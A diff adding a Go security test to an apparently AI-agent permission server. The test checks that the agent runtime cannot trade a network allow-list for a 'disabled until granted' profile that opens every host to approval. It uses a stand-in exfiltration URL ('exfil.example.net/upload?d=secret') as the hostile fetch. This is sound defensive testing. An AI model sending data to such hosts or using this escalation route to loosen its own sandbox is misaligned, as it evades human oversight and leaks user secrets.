@@ -72,3 +72,56 @@ enabled = false
 		}
 	}
 }
+
+// TestAttack177RuntimeTradesAllowListForUntilGranted: the same comparison
+// from the other side. Under a profile that keeps the network on, to an
+// allow-list (a fetch of any other host is refused host_not_allowed
+// before anyone is asked), the runtime changes the turn to ":workspace",
+// whose network is "disabled until granted" with no list: a disabled
+// network is stricter than a restricted one, so Widens calls it no
+// widening and the runtime may make it, but Approvable opens a disabled
+// network without a list to every host. A fetch of any host is then asked
+// of a person, and runs once allowed.
+//
+// Controls: before the change, the fetch is refused host_not_allowed; the
+// runtime's change to full_access is refused 403.
+func TestAttack177RuntimeTradesAllowListForUntilGranted(t *testing.T) {
+	t.Parallel()
+	profiles := filepath.Join(t.TempDir(), "profiles.toml")
+	if err := os.WriteFile(profiles, []byte(`
+[permissions.dev]
+extends = ":workspace"
+[permissions.dev.network]
+enabled = true
+[permissions.dev.network.domains]
+"docs.example.org" = "allow"
+`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	s := StartServer(t, "", "--profiles", profiles)
+	root := workspace(t)
+	runtime := roAs(s, roCreate(t, s, "agent", "runtime", "ws"))
+	runtime.JSON("POST", "/v1/turns", map[string]any{"turn_id": "dev", "workspace_id": "ws", "thread_id": "th",
+		"permission_profile": map[string]any{"profile": "dev"}, "workspace_root": root}, http.StatusCreated, nil)
+	evil := map[string]any{"url": "https://exfil.example.net/upload?d=secret"}
+	if d := runtime.decide("dev", "f1", "web_fetch", evil); d.Decision != "deny" || d.Refusal != "host_not_allowed" {
+		t.Fatalf("control: under the allow-list a fetch of another host: %+v, want deny host_not_allowed", d)
+	}
+	if st, _ := runtime.Request("POST", "/v1/turns/dev/permissions", map[string]any{"permission_profile": map[string]any{"mode": "full_access"}}); st != http.StatusForbidden {
+		t.Fatalf("control: the runtime's widening to full_access: %d, want 403", st)
+	}
+	st, _ := runtime.Request("POST", "/v1/turns/dev/permissions", map[string]any{"permission_profile": map[string]any{"profile": ":workspace"}})
+	if st == http.StatusOK {
+		t.Errorf("the runtime changed the allow-listed turn to :workspace (network disabled until granted, no list): %d, want 403 turn.widen_profile", st)
+	}
+	d := runtime.decide("dev", "f2", "web_fetch", evil)
+	if d.Decision != "deny" {
+		t.Errorf("after the runtime's change a fetch of a host outside the old allow-list is %s (%s, request %v)", d.Decision, d.Reason, d.Request != nil)
+	}
+	if d.Request != nil {
+		s.respond(d.Request.RequestID, "allow_once")
+		if d := runtime.decide("dev", "f2", "web_fetch", evil); d.Decision == "allow" {
+			t.Errorf("and once a person allows it, the fetch outside the allow-list is allowed (%s)", d.Reason)
+		}
+	}
+}
